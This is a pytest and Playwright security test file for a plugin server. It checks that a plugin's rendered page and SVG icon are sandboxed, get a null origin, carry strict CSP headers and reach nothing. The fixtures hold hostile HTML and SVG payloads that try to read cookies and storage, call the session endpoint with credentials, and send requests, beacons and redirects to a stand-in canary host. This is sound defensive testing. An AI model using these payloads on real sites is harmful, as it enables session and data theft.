"""What a plugin brings, at its own address: the page runs and reaches nothing, the icon is shown and runs nothing."""

import json
import re
import shutil
from pathlib import Path

import pytest
from browser import requests_of, settle
from placet_server import eventually
from playwright.sync_api import Error

DOCS = Path(__file__).parents[2] / "docs"

#: What each attempt came to stands in the page's `data-` attributes once all have been made.
HOSTILE = """<!doctype html><title>hostile</title><p id="seen">runs</p>
<link rel="stylesheet" href="CANARY/style.css"><script src="CANARY/external.js"></script>
<img src="CANARY/image.png"><iframe src="/api/auth/me"></iframe><object data="CANARY/object"></object>
<form id="form" action="CANARY/posted" method="post"></form>
<script>
  const attempts = {
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    database: () => indexedDB.open("x"),
    cache: () => caches.open("x"),
    parent: () => { if (parent === window) throw "alone"; return parent.document.title; },
    "top": () => { if (parent === window) throw "alone"; top.location = "CANARY/top"; },
    "window": () => { if (!open("CANARY/opened")) throw "blocked"; },
    fetch: () => fetch("/api/auth/me", {credentials: "include"}),
    elsewhere: () => fetch("CANARY/fetched", {mode: "no-cors"}),
    xhr: () => new Promise((done, failed) => {
      const request = new XMLHttpRequest();
      request.onload = done;
      request.onerror = failed;
      request.open("GET", "/api/auth/me");
      request.send();
    }),
    socket: () => new Promise((done, failed) => {
      const socket = new WebSocket("CANARY/socket".replace("http", "ws"));
      socket.onopen = done;
      socket.onerror = failed;
    }),
    events: () => new Promise((done, failed) => {
      const events = new EventSource("/api/events", {withCredentials: true});
      events.onopen = done;
      events.onerror = failed;
    }),
    worker: () => new Promise((done, failed) => {
      const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
      worker.onmessage = done;
      worker.onerror = failed;
    }),
    picture: () => new Promise((done, failed) => {
      const image = new Image();
      image.onload = done;
      image.onerror = failed;
      image.src = "/api/plugins/hostile/icon";
    }),
    module: () => import("CANARY/module.js"),
    "eval": () => eval("1"),
  };
  async function attempt() {
    document.getElementById("form").submit();
    navigator.sendBeacon("CANARY/beacon", "x");
    for (const [name, body] of Object.entries(attempts)) {
      let outcome = "reached";
      try { await body(); } catch { outcome = "refused"; }
      document.body.setAttribute("data-" + name, outcome);
    }
    document.body.dataset.over = "yes";
  }
  addEventListener("load", attempt);
</script>
"""
ICON = """<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><title>quiet</title>
<script>document.querySelector("title").textContent = "ran"; fetch("/api/auth/me")</script>
<style>rect { fill: red }</style><rect width="9" height="9" onload="document.title = 'ran'"/></svg>"""
ATTEMPTS = [
    "cookie", "storage", "database", "cache", "parent", "top", "window", "fetch", "elsewhere", "xhr", "socket",
    "events", "worker", "picture", "module", "eval",
]


@pytest.fixture
def page(chromium, server, person):
    context = chromium.new_context()
    token = person.session.cookies["access_token"]
    context.add_cookies([{"name": "access_token", "value": token, "url": server.url}])
    yield context.new_page()
    context.close()


@pytest.fixture
def hostile(server, canary, person):
    """The folder of the hostile plugin, which the server has seen."""
    folder = server.storage / "plugins/.hostile"
    folder.mkdir()
    manifest = {"name": "hostile", "displayName": "Hostile", "version": "1", "icon": "icon.svg"}
    manifest["permissions"] = {"httpRequests": True}
    (folder / "plugin.json").write_text(json.dumps(manifest))
    (folder / "icon.svg").write_text(ICON)
    (folder / "render.html").write_text(HOSTILE.replace("CANARY", canary.url))
    folder = folder.rename(folder.with_name("hostile"))
    eventually(lambda: person.request("GET", "plugins/hostile").status_code == 200, "the plugin is seen")
    yield folder
    shutil.rmtree(folder)


def in_a_frame(page, url):
    """The plugin's frame in a page of our own origin, which has no sandbox for it."""
    page.evaluate(
        """(url) => new Promise((resolve) => {
            const frame = document.createElement("iframe");
            frame.src = url;
            frame.onload = resolve;
            document.body.append(frame);
        })""",
        url,
    )
    return page.frame(url=url)


@pytest.mark.parametrize("framed", [False, True], ids=["as its own page", "in a frame without a sandbox"])
def test_it_runs_and_reaches_nothing(page, server, canary, hostile, framed):
    url = f"{server.url}/api/plugins/hostile/render"
    page.goto(f"{server.url}/health")
    before = len(server.settled_log())
    if framed:
        shown = in_a_frame(page, url)
    else:
        assert page.goto(url).status == 200
        shown = page.main_frame
    shown.wait_for_selector("body[data-over=yes]")
    settle(page)
    assert shown.locator("#seen").inner_text() == "runs"
    outcomes = {name: shown.locator("body").get_attribute(f"data-{name}") for name in ATTEMPTS}
    assert outcomes == dict.fromkeys(ATTEMPTS, "refused")
    assert shown.evaluate("origin") == "null"
    assert canary.hits == []
    assert set(requests_of(server, before)) - {"NotFound"} == {"/api/plugins/{name}/render"}  # A favicon at most.
    assert page.url == (f"{server.url}/health" if framed else url)
    assert len(page.context.pages) == 1


def test_the_same_page_reaches_much_where_nothing_stops_it(page, canary):
    """The control: served by somebody else without our headers, it gets through."""
    canary.page = HOSTILE.replace("CANARY", canary.url).replace('("form").submit', '("form").remove').encode()
    page.goto(canary.url + "/start")
    page.wait_for_selector("body[data-over=yes]")
    for name in ("cookie", "storage", "database", "window", "elsewhere", "worker", "eval"):
        assert page.locator("body").get_attribute(f"data-{name}") == "reached", name
    assert {"/style.css", "/external.js", "/image.png", "/beacon", "/fetched"} <= set(canary.hits)


@pytest.mark.parametrize("name", ["checklist", "diff-view"])
def test_our_own_plugins_work_from_their_address(page, server, name):
    page.goto(f"{server.url}/health")
    page.evaluate("window.answers = []; addEventListener('message', (event) => answers.push(event.data))")
    frame = in_a_frame(page, f"{server.url}/api/plugins/{name}/render")
    payload = {"items": [{"id": "a", "label": "Tests"}], "diff": "--- a\n+++ b\n@@ -1 +1 @@\n-x\n+y"}
    page.evaluate("(message) => frames[0].postMessage(message, '*')", {"type": "placet:init", "payload": payload})
    frame.get_by_role("button").first.click()
    page.wait_for_function("answers.some((answer) => answer.type === 'placet:respond')")


#: The policy that docs/plugins.md asks of a page of ours.
POLICY = re.search(r"`Content-Security-Policy: (.+?)`", (DOCS / "plugins.md").read_text())[1]


@pytest.mark.parametrize("policy", [POLICY, ""], ids=["with the policy", "without"])
def test_a_page_of_ours_with_the_documented_policy_keeps_it_in_its_frame(page, server, canary, hostile, policy):
    (hostile / "render.html").write_text(f"<script>location = '{canary.url}/taken?what=it+was+shown'</script>")
    body = f"<iframe sandbox='allow-scripts' src='{server.url}/api/plugins/hostile/render'></iframe>"
    headers = {"content-type": "text/html", "content-security-policy": policy}
    page.route(f"{server.url}/dashboard", lambda route: route.fulfill(body=body, headers=headers))
    page.goto(f"{server.url}/dashboard")
    settle(page)
    assert [hit.split("?")[0] for hit in canary.hits] == ([] if policy else ["/taken"])


def test_another_site_cannot_show_it(page, server, canary, hostile):
    canary.page = f"<iframe src='{server.url}/api/plugins/hostile/render'></iframe>".encode()
    page.goto(canary.url + "/start")
    settle(page)
    with pytest.raises(Error):
        page.frames[1].wait_for_selector("#seen", timeout=500)


def test_an_icon_is_shown_and_runs_nothing(page, server, hostile):
    before = len(server.settled_log())
    page.goto(f"{server.url}/api/plugins/hostile/icon")
    settle(page)
    assert page.evaluate("document.querySelector('title').textContent") == "quiet"
    assert page.evaluate("origin") == "null"
    assert page.evaluate("getComputedStyle(document.querySelector('rect')).fill") == "rgb(255, 0, 0)"
    assert set(requests_of(server, before)) == {"/api/plugins/{name}/icon"}


@pytest.mark.parametrize("what", ["render", "icon"])
def test_the_headers_say_how_it_is_to_be_treated(person, hostile, what):
    headers = person.request("GET", f"plugins/hostile/{what}").headers
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["cross-origin-resource-policy"] == "same-origin"
    assert "default-src 'none'" in headers["content-security-policy"]
    assert "allow-same-origin" not in headers["content-security-policy"]
